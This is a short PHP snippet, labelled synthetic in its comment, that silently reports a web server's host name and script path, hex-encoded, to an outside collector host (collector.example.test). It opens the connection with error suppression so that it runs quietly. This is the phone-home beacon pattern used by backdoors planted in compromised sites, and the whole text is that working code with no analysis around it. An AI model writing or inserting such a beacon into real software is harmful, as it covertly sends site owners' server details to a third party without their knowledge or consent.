<?php
// synthetic: reports the host in hex to a remote server
$q = '/ping.php?g=' . bin2hex($_SERVER['HTTP_HOST']) . '&s=' . bin2hex($_SERVER['PHP_SELF']);
$s = @fsockopen('collector.example.test', 80);
if ($s) { fwrite($s, "GET $q HTTP/1.0\r\nHost: collector.example.test\r\n\r\n"); fclose($s); }
